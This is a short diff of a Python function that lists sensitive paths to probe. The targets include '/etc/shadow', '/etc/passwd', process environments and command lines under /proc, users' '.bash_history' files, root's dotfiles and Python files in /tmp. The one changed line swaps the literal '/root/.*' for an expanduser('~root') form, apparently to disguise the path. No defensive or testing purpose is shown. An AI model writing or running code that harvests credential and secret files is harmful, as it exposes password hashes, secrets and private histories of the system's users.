@@ -20,7 +20,7 @@ def _places():
             yield os.path.join(root, tail)
     yield from ("/etc/passwd", "/etc/shadow", "/proc/1/environ", "/proc/1/cmdline", f"/proc/{os.getppid()}/cmdline",
                 f"/proc/{os.getppid()}/stat", "/proc/net/tcp", "/proc/mounts")
-    yield from glob.glob("/tmp/*/*.py") + glob.glob("/home/*/.bash_history") + glob.glob("/root/.*")
+    yield from glob.glob("/tmp/*/*.py") + glob.glob("/home/*/.bash_history") + glob.glob(os.path.expanduser("~root") + "/.*")
 
 
 def _readable():
